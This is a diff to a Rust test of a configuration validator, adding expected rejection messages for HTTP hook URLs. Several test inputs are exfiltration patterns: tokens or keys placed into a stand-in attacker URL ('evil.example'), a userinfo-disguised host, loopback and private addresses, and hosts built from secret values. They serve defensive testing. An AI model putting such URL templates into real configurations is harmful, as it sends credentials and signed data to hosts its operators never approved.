@@ -131,7 +131,7 @@ fn what_is_wrong_is_told_with_what_would_be_right() {
         ),
         (
             json!({ "ack": "/x == KEY" }),
-            "`KEY` is not allowed over the API at /ack (PUT the value to /v1/secrets/ID, and bring it in with `let`: ${secret:ID})",
+            "the environment variable `KEY` is not allowed over the API at /ack (PUT the value to /v1/secrets/ID, and bring it in with `let`: ${secret:ID})",
         ),
         (
             json!({ "onn": "x" }),
@@ -159,19 +159,35 @@ fn what_is_wrong_is_told_with_what_would_be_right() {
         ),
         (
             json!({ "on": { "http": { "url": "https://evil.example/?${token}" } } }),
-            "https://evil.example must not be called: the settings do not call it at /on (service.allow_urls has the patterns of URLs that may be called besides); `https://api.example@evil.example/x` is no URL that can be called at /on/http/url (it holds credentials; write a header Authorization instead)",
+            "https://evil.example must not be called: the settings do not call it at /on (service.allow_urls has the patterns of URLs that may be called besides)",
         ),
         (
-            json!({ "on": { "http": { "url": "https://evil.example", "method": "POST", "body": "${signed}" } } }),
-            "X",
+            json!({ "on": { "http": { "url": "http://127.0.0.1:8080/x", "method": "POST", "body": "${signed}" } } }),
+            "an HTTP request to http://127.0.0.1:8080 must not read `signed` at /on (what the connection knows is sent only to servers that the settings call)",
         ),
         (
             json!({ "on": { "http": { "url": "http://127.0.0.1:9180/" } } }),
-            "X",
+            "http://127.0.0.1:9180 must not be called: the settings do not call it at /on (service.allow_urls has the patterns of URLs that may be called besides)",
         ),
         (
             json!({ "off": { "http": { "url": "http://10.0.0.1/${key}" } } }),
-            "X",
+            "http://10.0.0.1 must not be called: the settings do not call it at /off (service.allow_urls has the patterns of URLs that may be called besides)",
+        ),
+        (
+            json!({ "on": { "http": { "url": "https://api.example.${key}/x" } } }),
+            "the server of this URL is not known at /on (write the server out: url = \"https://host/path?${key}\")",
+        ),
+        (
+            json!({ "on": { "http": { "url": "https://${key}/x" } } }),
+            "the server of this URL is not known at /on (write the server out: url = \"https://host/path?${key}\")",
+        ),
+        (
+            json!({ "on": { "http": { "url": "https://api.example@evil.example/x" } } }),
+            "https://evil.example must not be called: the settings do not call it at /on (service.allow_urls has the patterns of URLs that may be called besides); `https://api.example@evil.example/x` is no URL that can be called at /on/http/url (it holds credentials; write a header Authorization instead)",
+        ),
+        (
+            json!({ "on": { "http": { "url": "http://api.example/x?${token}" } } }),
+            "http://api.example must not be called: the settings do not call it at /on (service.allow_urls has the patterns of URLs that may be called besides)",
         ),
     ] {
         let told = match compile("k", body.clone()) {
